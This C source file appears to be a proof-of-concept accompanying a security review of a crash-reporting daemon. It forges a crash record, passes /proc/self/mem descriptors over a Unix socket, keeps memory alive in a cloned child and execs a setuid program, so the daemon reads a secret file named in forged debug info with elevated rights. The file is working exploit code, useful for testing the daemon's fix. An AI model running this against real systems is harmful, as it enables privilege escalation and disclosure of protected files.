/* An attack on the reporter (the review's first finding): send a crash
 * record with this process's own /proc/self/mem and maps, keep the old
 * memory alive in a CLONE_VM child, and exec another program (a setuid
 * one in the attack) before the daemon reads anything.  A daemon that
 * took the process's rights from /proc/PID/status after that would read
 * "source files" named by our debug info as the new program's user.
 *
 * usage: exec_after_record SOCKET PROGRAM [ARGS...]
 * Compiled with -DSECRET_PATH='"/path"': the function whose registers go
 * in the record has its debug info name that file. */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <fcntl.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

#include "record.h"

static const int order[BB_NREGS] = {
	REG_RAX, REG_RDX, REG_RCX, REG_RBX, REG_RSI, REG_RDI, REG_RBP, REG_RSP,
	REG_R8, REG_R9, REG_R10, REG_R11, REG_R12, REG_R13, REG_R14, REG_R15, REG_RIP,
};

static int keep_memory(void *arg)
{
	(void)arg;
	sleep(10);	/* the old memory lives while we do */
	return 0;
}

#line 1 SECRET_PATH
__attribute__((noinline)) static void fill_registers(struct bb_record *r)
{
	ucontext_t uc;
	getcontext(&uc);
	for (int i = 0; i < BB_NREGS; i++)
		r->regs[i] = (uint64_t)uc.uc_mcontext.gregs[order[i]];
	r->has_regs = 1;
}
#line 48 "exec_after_record.c"

static int send_record(const char *sock_path, const struct bb_record *r)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fds[2] = { open("/proc/self/mem", O_RDONLY), open("/proc/self/maps", O_RDONLY) };
	char ctl[CMSG_SPACE(sizeof(fds))];
	struct iovec iov = { .iov_base = (void *)r, .iov_len = sizeof(*r) };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl,
			    .msg_controllen = sizeof(ctl) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);
	int s = socket(AF_UNIX, SOCK_SEQPACKET, 0);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(fds));
	memcpy(CMSG_DATA(c), fds, sizeof(fds));
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", sock_path);
	if (connect(s, (struct sockaddr *)&a, sizeof(a)) != 0 || sendmsg(s, &m, 0) != sizeof(*r))
		return -1;
	return s;	/* left open: the exec'd program holds it */
}

int main(int argc, char **argv)
{
	static struct bb_record r;
	static char stack[64 * 1024];
	struct timespec ts;

	if (argc < 3)
		return 2;
	memset(&r, 0, sizeof(r));
	r.magic = BB_RECORD_MAGIC;
	r.version = BB_RECORD_VERSION;
	r.kind = BB_REC_CRASH;
	r.size = sizeof(r);
	r.pid = getpid();
	r.tid = (int32_t)syscall(SYS_gettid);
	r.signo = SIGSEGV;
	r.si_code = SEGV_MAPERR;
	clock_gettime(CLOCK_REALTIME, &ts);
	r.time_sec = (uint64_t)ts.tv_sec;
	fill_registers(&r);
	if (clone(keep_memory, stack + sizeof(stack), CLONE_VM | SIGCHLD, NULL) < 0)
		return 3;
	if (send_record(argv[1], &r) < 0)
		return 4;
	execv(argv[2], argv + 2);
	return 5;
}
